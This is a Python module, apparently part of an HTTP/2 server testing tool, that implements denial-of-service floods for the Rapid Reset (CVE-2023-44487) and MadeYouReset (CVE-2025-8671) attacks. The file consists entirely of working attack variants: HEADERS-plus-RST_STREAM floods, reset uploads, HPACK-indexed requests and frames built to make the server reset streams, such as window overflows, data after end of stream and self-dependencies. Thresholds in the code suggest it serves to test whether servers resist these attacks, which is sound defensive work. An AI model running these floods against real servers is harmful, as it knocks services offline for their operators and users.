"""Streams that end as soon as they began: by the client's word (CVE-2023-44487), or by the server's own (CVE-2025-8671)."""

import wire

from .attack import ENDED, attack, flood

ENOUGH = 20000

# What two connections may get through to the backend before each of them has used up its resets, and had its streams answered.
THROUGH = 800

# Whatever a server takes for an error of the whole connection ends the attack as well.
STOPPED = ENDED | {"GOAWAY " + error for error in wire.ERRORS}



def is_reset(connection, sent):
    """Whether the server has reset all that was opened: only then more of them are welcome."""
    return len(connection.resets) >= sent


@attack("rapid-reset", "resets", ENDED, most_requests=THROUGH)
def rapid_reset(target, report):
    def make(connection, number, block):
        stream = connection.next_stream()
        return wire.headers(stream, block) + wire.rst_stream(stream)
    flood(target, report, make, ENOUGH, prepare=lambda _: target.request("/hang"))


@attack("rapid-reset-upload", "resets", ENDED, most_requests=THROUGH)
def rapid_reset_upload(target, report):
    """The same in the middle of a body."""
    def make(connection, number, block):
        stream = connection.next_stream()
        return wire.headers(stream, block, end_stream=False) + wire.data(stream, b"x" * 10) + wire.rst_stream(stream)
    flood(target, report, make, ENOUGH, prepare=lambda _: target.request("/hang", "POST"))


@attack("rapid-reset-mixed", "resets", ENDED)
def rapid_reset_mixed(target, report):
    """Hidden among requests that are answered."""
    def make(connection, number, blocks):
        stream = connection.next_stream()
        if number % 2:
            return wire.headers(stream, blocks[0])
        return wire.headers(stream, blocks[1]) + wire.rst_stream(stream)
    flood(target, report, make, ENOUGH, batch=50, prepare=lambda _: (target.request("/"), target.request("/hang")),
          pace=lambda connection, sent: len(connection.ended) >= sent // 2)


@attack("rapid-reset-tables", "resets", ENDED, most_requests=THROUGH)
def rapid_reset_tables(target, report):
    """With heads of a few octets, all of it in the dynamic table."""
    fields = (
        (":method", "GET"), (":scheme", target.scheme), (":authority", target.authority), (":path", "/hang"),
        ("x-filling", "y" * 2000))

    def make(connection, number, _):
        stream = connection.next_stream()
        block = (b"".join(wire.remembered(*field) for field in fields) if number == 0
                 else b"".join(wire.indexed(62 + entry) for entry in (4, 3, 2, 1, 0)))
        return wire.headers(stream, block) + wire.rst_stream(stream)
    flood(target, report, make, ENOUGH)


@attack("reset-finished", "resets", ENDED)
def reset_finished(target, report):
    """RST_STREAM for a stream that is over already, again and again."""
    def prepare(connection):
        stream = connection.next_stream()
        connection.send(wire.headers(stream, target.request("/")))
        connection.wait(lambda: connection.is_over(stream))
        return stream
    flood(target, report, lambda connection, number, stream: wire.rst_stream(stream), 200_000, batch=1000, prepare=prepare)


def provoke(name, offence, head=None, method="GET", end_stream=True):
    """MadeYouReset: `offence(stream)` makes the server reset a stream whose request is with the backend already."""
    def run(target, report):
        block = target.request("/hang", method, head or ())

        def make(connection, number, _):
            stream = connection.next_stream()
            return wire.headers(stream, block, end_stream=end_stream) + offence(stream)
        flood(target, report, make, ENOUGH, batch=20, pace=is_reset)
    attack("made-you-reset-" + name, "resets", STOPPED, most_requests=THROUGH)(run)


provoke("window-overflow", lambda stream: wire.window_update(stream, 0x7FFFFFFF))
provoke("window-zero", lambda stream: wire.window_update(stream, 0))
provoke("data-after-end", lambda stream: wire.data(stream, b"more"))
provoke("head-after-end", lambda stream: wire.headers(stream, wire.fields(("x-late", "1"))))
provoke("priority-length", lambda stream: wire.frame(wire.PRIORITY, 0, stream, b"\0\0\0\0"))
provoke("priority-itself", lambda stream: wire.priority(stream, stream))
provoke("too-much-data", lambda stream: wire.data(stream, b"more than five"),
        head=(("content-length", "5"),), method="POST", end_stream=False)
provoke("too-little-data", lambda stream: wire.data(stream, b"four", end_stream=True),
        head=(("content-length", "5"),), method="POST", end_stream=False)
provoke("bad-trailers", lambda stream: wire.headers(stream, wire.fields((":path", "/"))),
        method="POST", end_stream=False)
provoke("trailers-without-end", lambda stream: wire.headers(stream, wire.fields(("x", "y")), end_stream=False),
        method="POST", end_stream=False)


@attack("malformed-heads", "resets", STOPPED)
def malformed_heads(target, report):
    """Each stream is reset before it becomes a request."""
    block = target.request("/", more=(("Upper-Case", "1"),))
    flood(target, report, lambda connection, number, _: wire.headers(connection.next_stream(), block), ENOUGH, batch=50,
          pace=is_reset)


@attack("streams-over-the-limit", "resets", STOPPED)
def refused(target, report):
    """Requests that are not answered, far more than may be open, without regard to REFUSED_STREAM."""
    block = target.request("/hang")
    flood(target, report, lambda connection, number, _: wire.headers(connection.next_stream(), block), ENOUGH)


@attack("self-dependencies", "resets", STOPPED)
def self_dependencies(target, report):
    """HEADERS whose stream depends on itself."""
    block = target.request("/hang")

    def make(connection, number, _):
        stream = connection.next_stream()
        return wire.headers(stream, wire.dependency(stream) + block, flags=wire.WITH_PRIORITY) + wire.rst_stream(stream)
    flood(target, report, make, ENOUGH)
